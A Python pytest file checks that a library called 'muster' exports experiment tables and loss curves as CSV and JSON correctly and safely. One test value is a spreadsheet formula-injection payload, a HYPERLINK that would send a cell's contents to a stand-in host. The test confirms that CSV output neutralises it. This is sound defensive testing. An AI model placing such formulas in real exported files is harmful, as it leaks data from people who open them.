"""Tables as files: whole, in the order of the page, and harmless where they are opened."""

from __future__ import annotations

import csv
import io
import json
import math
from concurrent.futures import ThreadPoolExecutor
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

import muster
from muster.base.errors import MusterError, UsageError
from muster.web.content.index import file_of
from muster.web.folder import Folders, id_of
from muster.web.query import BadQuery, Query

LONE = "one\rtwo"
ATTACK = '=HYPERLINK("http://x/?"&A1)'


def work(x: int, ctx: muster.Context) -> dict[str, Any]:
    ctx.log(x, loss=1.0 / x)
    return {"y": x * 0.1, "said": [LONE, ATTACK, "-3"][x - 1], "ok": x > 1, "far": math.inf}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("runs") / "one"
    how = {"devices": "cpu:1", "executor": "inline", "run_dir": folder}
    muster.sweep(work, grid={"x": [1, 2, 3]}, **how)
    return folder


def text_of(run: Path, name: str, suffix: str, /, **query: object) -> str:
    folders = Folders([run.parent])
    found = file_of(folders, name, suffix, id_of(run), Query.of(**query))
    assert found[0] == f"one-{name}.{suffix}"
    return b"".join(found[1]).decode()


def test_a_table_is_saved_as_it_is_shown_and_holds_no_formula(run: Path) -> None:
    rows = [*csv.DictReader(io.StringIO(text_of(run, "tasks", "csv", sort="x", desc=1)))]
    assert [row["x"] for row in rows] == ["3", "2", "1"]
    assert [row["said"] for row in rows] == ["-3", f"'{ATTACK}", LONE]
    assert [row["ok"] for row in rows] == ["true", "true", "false"]
    found = json.loads(text_of(run, "tasks", "json", filter="x>1 ok=true"))
    assert [row["x"] for row in found] == [2, 3] and found[0]["said"] == ATTACK
    assert found[0]["far"] is None and found[0]["y"] == 0.2
    assert json.loads(text_of(run, "tasks", "json", state="failed")) == []
    assert text_of(run, "tasks", "csv", state="failed").startswith("number,state,x,")


def test_curves_are_saved_with_every_point(run: Path) -> None:
    rows = [*csv.reader(io.StringIO(text_of(run, "curves", "csv")))]
    assert rows[0] == ["task", "name", "step", "time", "value"]
    assert [row[1:3] for row in rows[1:]] == [["loss", "1"], ["loss", "2"], ["loss", "3"]]
    assert text_of(run, "curves", "json", name="other") == "[]\n"
    assert len(json.loads(text_of(run, "curves", "json", task="2"))) == 1


@pytest.mark.parametrize("name", ["tasks", "curves"])
def test_any_thread_may_read_the_next_part(run: Path, name: str) -> None:
    """As a server's threads do."""
    parts = file_of(Folders([run.parent]), name, "csv", id_of(run), Query())[1]
    found = []
    with ThreadPoolExecutor(1) as one, ThreadPoolExecutor(1) as other:
        for pool in cycle((one, other)):
            if (part := pool.submit(lambda: next(parts, None)).result()) is None:
                break
            found.append(part)
    assert b"".join(found).decode() == text_of(run, name, "csv")


@pytest.mark.parametrize(
    ("name", "suffix", "query", "error"),
    [
        ("tasks", "exe", {}, UsageError),
        ("about", "csv", {}, UsageError),
        ("tasks", "csv", {"sort": "nothing"}, BadQuery),
        ("curves", "csv", {"task": "77"}, UsageError),
    ],
)
def test_what_cannot_be_saved_is_said_before_anything_is_sent(
    run: Path, name: str, suffix: str, query: dict[str, str], error: type[MusterError]
) -> None:
    with pytest.raises(error):
        file_of(Folders([run.parent]), name, suffix, id_of(run), Query.of(**query))
